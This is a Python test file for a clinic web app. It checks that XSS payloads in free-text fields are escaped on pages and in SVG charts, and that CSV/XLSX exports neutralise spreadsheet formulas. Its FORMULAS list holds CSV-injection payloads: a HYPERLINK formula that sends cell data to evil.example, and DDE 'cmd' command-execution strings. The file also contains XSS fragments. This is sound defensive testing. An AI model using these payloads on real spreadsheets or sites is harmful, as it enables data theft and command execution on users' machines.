"""An XSS payload in every free-text field (person name, mother name, address, notes, review note, follow-up note,
facility names) is shown escaped on every page and in the SVG charts; in CSV/XLSX exports a formula is
neutralised with a leading quote."""
import csv
import io

import openpyxl
import pytest
from markupsafe import escape

from posyandu_app import create_app
from config import TestConfig
from posyandu_app.extensions import db
from posyandu_app.web.report_export import Sheet, to_csv, to_xlsx

from ..factories import PASSWORD
from . import world as w

# Where each field must be seen (escaped): the page is a detail page, a list or a report of the field's record.
SHOWN_ON = {
    "name": "/people", "mother": "/people", "address": "/people/{person}", "review_note": "/review/growth/{visit}",
    "follow_up_note": "/high-risk", "dupname": "/people/duplicates", "posyandu": "/reports/pws",
}


def _pages(app):
    return [rule for rule in app.url_map.iter_rules() if "GET" in rule.methods and rule.endpoint != "static"]


@pytest.mark.parametrize("role", ["bidan", "supervisor", "admin"])
def test_payload_never_reaches_a_page_unescaped(app, client, make, role):
    world = w.build(make)
    client.post("/api/v1/auth/login", json={"username": world.users[role].username, "password": PASSWORD})
    seen = set()
    for rule in _pages(app):
        response = client.get(w.url_for_rule(rule, world))
        if response.mimetype != "text/html":
            continue
        html = response.get_data(as_text=True)
        assert w.PAYLOAD not in html and "<img src=x" not in html and "<script>alert" not in html, rule.rule
        seen |= {field for field in ("name", "mother", "address", "review_note", "follow_up_note", "dupname",
                                     "posyandu") if str(escape(w.tagged(field))) in html}
    assert {"name", "mother", "posyandu"} <= seen  # the payloads were really on the pages


def test_each_free_text_field_is_shown_escaped_where_it_belongs(client, make):
    world = w.build(make)
    client.post("/api/v1/auth/login", json={"username": world.users["supervisor"].username, "password": PASSWORD})
    for field, url in SHOWN_ON.items():
        html = client.get(url.format(person=world.person.id, visit=world.growth.id)).get_data(as_text=True)
        assert str(escape(w.tagged(field))) in html, (field, url)


def test_svg_charts_escape_series_names_and_titles():
    from posyandu_app.web.svg_charts import line_chart, sparkline
    svg = str(line_chart(["Jan", w.PAYLOAD], [{"name": w.PAYLOAD, "values": [1.0, 2.0]}], w.PAYLOAD,
                         target=50, target_label=w.PAYLOAD)) + str(sparkline([1.0, 2.0], label=w.PAYLOAD))
    assert "<script>" not in svg and "<img" not in svg and w.ESCAPED_MARK in svg


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def test_exports_neutralise_formulas_and_keep_numbers():
    sheet = Sheet("Daftar", ["Nama", "Berat"], [[text, -1.5] for text in FORMULAS] + [["-", "-3"]])
    rows = list(csv.reader(io.StringIO(to_csv([sheet]).decode("utf-8-sig"))))[2:]
    assert [row[0] for row in rows[:-1]] == ["'" + text for text in FORMULAS]
    assert rows[-1] == ["-", "-3"] and rows[0][1] == "-1.5"  # plain numbers and the empty mark are untouched
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([sheet])))
    cells = [row for row in book.active.iter_rows(min_row=3, values_only=True)]
    assert [row[0] for row in cells[:-1]] == ["'" + text for text in FORMULAS]
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)
    assert cells[0][1] == -1.5


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_typed_as_a_name_is_neutralised_in_the_report_export(client, make, kind):
    world = w.build(make)
    world.person.name = FORMULAS[0]
    db.session.commit()
    client.post("/api/v1/auth/login", json={"username": world.users["supervisor"].username, "password": PASSWORD})
    response = client.get(f"/reports/monthly.{kind}")
    assert response.status_code == 200
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))) for cell in row]
    else:
        book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
        cells = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
